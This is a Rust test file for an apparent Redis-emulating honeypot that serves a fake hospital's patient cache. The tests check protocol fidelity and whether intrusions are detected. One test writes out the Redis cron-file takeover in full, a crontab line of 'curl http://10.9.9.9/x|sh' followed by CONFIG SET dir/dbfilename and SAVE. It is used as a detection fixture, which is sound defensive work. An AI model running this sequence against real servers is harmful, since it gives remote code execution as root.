//! The cache, by what clients send.

use crate::decoys::{Making, build};
use crate::event::Observation;
use crate::persona::Protocol;
use crate::session::bench::{Bench, play};
use crate::session::{Conversation, Machine};

fn machine(bench: &Bench) -> Box<dyn Machine> {
    let (host, service) = bench.pack.service("phis", Protocol::Redis).unwrap();
    let making = Making {
        pack: std::sync::Arc::clone(&bench.pack),
        host: std::sync::Arc::clone(host),
        world: std::sync::Arc::clone(&bench.world),
        imaging: std::sync::Arc::default(),
    };
    match build(&making, service).unwrap().converse(bench.session("phis", "redis")) {
        Conversation::Machine(machine) => machine,
        Conversation::Stream(_) | Conversation::Opaque(_) | Conversation::Datagrams(_) => panic!("a machine"),
    }
}

fn said(bench: &Bench, lines: &[&str]) -> String {
    let input: String = lines.iter().map(|line| format!("{line}\r\n")).collect();
    String::from_utf8_lossy(&play(machine(bench).as_mut(), &[input.as_bytes()])).into_owned()
}

/// Requests and what redis-server 5.0.14 answered to them, recorded.
const RECORDED: &str = include_str!("recorded.txt");

#[test]
fn answers_are_those_of_the_product() {
    let bench = Bench::new();
    let mut machine = machine(&bench);
    let mut wrong = Vec::new();
    for record in RECORDED.split("\n> ").filter(|record| !record.is_empty()) {
        let (line, expected) = record.trim_start_matches("> ").split_once('\n').unwrap();
        let got = play(machine.as_mut(), &[format!("{line}\r\n").as_bytes()]);
        let got = String::from_utf8_lossy(&got).replace("\r\n", "\n");
        if got.trim_end() != expected.trim_end() {
            wrong.push(format!("{line}\n   want {expected:?}\n   got  {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn requests_are_read_however_they_are_cut() {
    let requests =
        b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$4\r\nx\r\ny\r\nGET \"a\"\r\n*2\r\n$4\r\nECHO\r\n$2\r\nhi\r\n";
    let whole = play(machine(&Bench::new()).as_mut(), &[requests]);
    assert_eq!(whole, b"+OK\r\n$4\r\nx\r\ny\r\n$2\r\nhi\r\n");
    for split in 0..requests.len() {
        let (first, second) = requests.split_at(split);
        assert_eq!(play(machine(&Bench::new()).as_mut(), &[first, second]), whole, "cut at {split}");
    }
}

#[test]
fn what_is_no_request_is_answered_and_told() {
    let cases: [(&[u8], &str); 6] = [
        (b"*1\r\n$abc\r\n", "-ERR Protocol error: invalid bulk length\r\n"),
        (b"*99999999\r\n", "-ERR Protocol error: invalid multibulk length\r\n"),
        (b"*1\r\nGET\r\n", "-ERR Protocol error: expected '$', got 'G'\r\n"),
        (b"GET \"a\"b\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n"),
        (&[b'A'; 70_000], "-ERR Protocol error: too big inline request\r\n"),
        (b"[[,[[\r\n", "-ERR unknown command `[[,[[`, with args beginning with: \r\n"),
    ];
    for (input, expected) in cases {
        let bench = Bench::new();
        assert_eq!(String::from_utf8_lossy(&play(machine(&bench).as_mut(), &[input])), expected);
        let malformed = bench.told().iter().any(|o| matches!(o, Observation::Malformed { .. }));
        assert_eq!(malformed, expected.contains("Protocol"), "{expected}");
    }
}

#[test]
fn patients_in_the_cache_are_those_of_the_world() {
    let bench = Bench::new();
    let view = bench.world.at(crate::session::bench::NOW.parse().unwrap());
    let stay = view.inpatients().remove(0);
    let patient = view.patient(stay.patient).unwrap();
    let key = format!("phis:patient:{}", patient.mrn);
    let text = said(&bench, &["KEYS phis:patient:*", &format!("HGET {key} xm"), &format!("HGET {key} zyh")]);
    assert!(
        text.contains(&key) && text.contains(&patient.name.chinese()) && text.contains(&stay.number),
        "{text}"
    );
    let told = bench.told();
    let read = told
        .iter()
        .any(|o| matches!(o, Observation::RecordRead { ids, .. } if ids.as_slice() == std::slice::from_ref(&patient.mrn)));
    assert!(read, "{told:?}");
    let logins = said(&bench, &["KEYS phis:token:*"]);
    let count: usize = logins.lines().next().unwrap().trim_start_matches('*').parse().unwrap();
    assert!(count > 3, "{logins}");
    let token = logins.lines().nth(2).unwrap();
    assert!(
        said(&bench, &[&format!("TTL {token}")]).trim_start_matches(':').trim().parse::<u32>().unwrap() > 0
    );
}

#[test]
fn a_takeover_is_told_with_its_file_and_seen_by_nobody_else() {
    let bench = Bench::new();
    let lines = [
        "FLUSHALL",
        "SET x \"\\n\\n* * * * * curl http://10.9.9.9/x|sh\\n\\n\"",
        "CONFIG SET dir /var/spool/cron",
        "CONFIG SET dbfilename root",
        "SAVE",
        "KEYS *",
    ];
    assert_eq!(said(&bench, &lines), "+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n*1\r\n$1\r\nx\r\n");
    let told = bench.told();
    let weaknesses: Vec<_> = told
        .iter()
        .filter_map(|o| match o {
            Observation::ExploitAttempt { weakness, payload } => {
                Some((weakness.as_str(), payload.as_untrusted()))
            }
            _ => None,
        })
        .collect();
    assert!(weaknesses.contains(&("Redis: file written", "/var/spool/cron/root")), "{weaknesses:?}");
    assert!(told.iter().any(|o| matches!(o, Observation::Transfer { size, .. } if *size > 60)), "{told:?}");
    assert!(said(&Bench::new(), &["CONFIG GET dir"]).contains("/var/lib/redis"));
}
